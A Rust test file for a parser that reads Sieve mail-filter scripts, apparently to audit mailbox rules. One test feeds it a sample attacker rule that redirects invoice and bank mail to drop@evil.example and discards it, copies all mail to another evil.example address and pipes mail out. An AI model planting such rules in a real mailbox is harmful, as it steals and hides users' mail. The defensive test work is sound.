//! Scripts as people and attackers write them, and bytes that are none.

use proptest::prelude::*;

use super::*;

fn told(script: &str) -> Vec<String> {
    let found = read(script.as_bytes()).expect(script);
    found
        .iter()
        .map(|it| format!("{}{}", if it.is_conditional { "if " } else { "" }, word(&it.deed)))
        .collect()
}

fn word(deed: &Deed) -> String {
    let flag = |is: bool, word: &str| if is { format!(" {word}") } else { String::new() };
    match deed {
        Deed::Redirect { to, is_copy } => format!("redirect {to}{}", flag(*is_copy, "copy")),
        Deed::FileInto { folder, is_copy, creates } => {
            format!("into {folder}{}{}", flag(*is_copy, "copy"), flag(*creates, "create"))
        }
        Deed::Include { script, is_global } => format!("include {script}{}", flag(*is_global, "global")),
        Deed::Notify { method } => format!("notify {method}"),
        Deed::Other { command } => command.clone(),
        Deed::Discard => "discard".to_owned(),
        Deed::Keep => "keep".to_owned(),
        Deed::Reject => "reject".to_owned(),
        Deed::Stop => "stop".to_owned(),
        Deed::Vacation => "vacation".to_owned(),
    }
}

#[test]
fn what_an_attacker_leaves_behind_is_read() {
    let script = r#"
require ["fileinto", "copy", "mailbox", "imap4flags", "vnd.dovecot.pipe"];
# rule:[.]
if anyof (header :contains "subject" ["invoice", "bank"], address :is "from" "boss@contoso.example") {
    redirect "drop@evil.example";
    discard;
    stop;
}
redirect :copy "other@evil.example";
if header :contains "Subject" "hacked" { setflag "\\Seen"; fileinto :create "RSS Feeds"; }
elsif true { pipe "forward"; }
"#;
    assert_eq!(
        told(script),
        [
            "if redirect drop@evil.example",
            "if discard",
            "if stop",
            "redirect other@evil.example copy",
            "if setflag",
            "if into RSS Feeds create",
            "if pipe",
        ]
    );
}

#[test]
fn a_test_that_is_always_true_is_no_condition_and_what_is_never_reached_is_left_out() {
    assert_eq!(told("if true { redirect \"a@b.c\"; } else { discard; }"), ["redirect a@b.c"]);
    assert_eq!(told("if not false { keep; }"), ["keep"]);
    assert_eq!(told("if allof(true, not false) { keep; }"), ["keep"]);
    assert_eq!(told("if anyof(false, header \"a\" \"b\") { keep; }"), ["if keep"]);
    assert_eq!(told("if false { discard; } elsif true { keep; } else { stop; }"), ["keep"]);
    assert_eq!(told("if exists \"x\" { stop; } else { discard; } keep;"), ["if stop", "if discard", "keep"]);
    assert_eq!(told("if exists \"x\" { if true { stop; } }"), ["if stop"]);
    assert_eq!(told("foreverypart { discard; }"), ["if discard"]);
}

#[test]
fn every_way_to_write_it_is_read() {
    assert_eq!(told("REDIRECT /* hidden */ \"a\\\"b@c\" # more\r\n;"), ["redirect a\"b@c"]);
    assert_eq!(told("redirect text:\r\nx@evil.example\r\n.\r\n;"), ["redirect x@evil.example\r\n"]);
    assert_eq!(
        told("vacation :days 7 :subject \"Away\" text: # until Monday\nHello.\n..\n.\n;"),
        ["vacation"]
    );
    assert_eq!(told("redirect :notify \"NEVER\" :ret \"FULL\" \"a@b.c\";"), ["redirect a@b.c"]);
    assert_eq!(
        told("include :global :once \"site\"; include \"own\";"),
        ["include site global", "include own"]
    );
    assert_eq!(told("notify :importance \"1\" \"mailto:a@b.c\";"), ["notify mailto:a@b.c"]);
    assert_eq!(told("redirect \"${a}@${b}\";"), ["redirect ${a}@${b}"]);
    assert_eq!(told("if size :over 100K { discard; }"), ["if discard"]);
    assert_eq!(told("\u{feff}keep;"), ["keep"]);
    assert!(told("").is_empty() && told("# nothing\n").is_empty());
}

#[test]
fn what_is_no_script_says_where() {
    for (script, line) in [
        ("keep", 1),
        ("keep;\n}", 2),
        ("if true {\nkeep;", 2),
        ("redirect \"a", 1),
        ("/* x", 1),
        ("text:\nabc", 2),
        ("keep;\n\u{1}", 2),
        ("if (true { keep; }", 1),
        ("redirect [\"a\" keep;", 1),
        (": keep;", 1),
        ("\"a\";", 1),
    ] {
        match read(script.as_bytes()) {
            Err(ScriptError::Syntax { line: told, .. }) => assert!(told <= line, "{script:?}: line {told}"),
            other => panic!("{script:?}: {other:?}"),
        }
    }
}

#[test]
fn nothing_is_without_a_limit() {
    assert_eq!(read(&vec![b' '; SCRIPT_BYTES_MAX + 1]), Err(ScriptError::TooLarge));
    let blocks = |depth: usize| "if exists \"x\" {".repeat(depth) + &"}".repeat(depth);
    assert!(read(blocks(NESTING_MAX).as_bytes()).is_ok());
    assert!(matches!(read(blocks(NESTING_MAX + 1).as_bytes()), Err(ScriptError::TooDeep { .. })));
    let tests = |depth: usize| format!("if {} true {{ keep; }}", "not ".repeat(depth));
    assert!(read(tests(NESTING_MAX - 1).as_bytes()).is_ok());
    assert!(matches!(read(tests(100_000).as_bytes()), Err(ScriptError::TooDeep { .. })));
    let brackets = "if anyof(".repeat(100_000);
    assert!(read(brackets.as_bytes()).is_err());
    assert_eq!(read("keep;".repeat(DEEDS_MAX + 1).as_bytes()), Err(ScriptError::TooMany));
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _whatever = read(&bytes);
    }

    #[test]
    fn a_script_cut_anywhere_is_read_or_refused(
        cut in 0_usize..200,
        words in proptest::collection::vec(
            prop::sample::select(vec![
                "if", "elsif", "else", "not", "anyof", "(", ")", "{", "}", "[", "]", ",", ";", "\"a@b\"", ":copy", "7K",
                "redirect", "keep", "true", "text:\n", ".\n", "/*", "*/", "#", "\n", "\\", "\"",
            ]),
            0..60,
        ),
    ) {
        let script = words.join(" ");
        let end = cut.min(script.len());
        let found = read(&script.as_bytes()[..end]);
        let lines = script.lines().count() as u32 + 1;
        prop_assert!(found.is_err() || found.is_ok_and(|all| all.iter().all(|it| it.line <= lines)));
    }
}
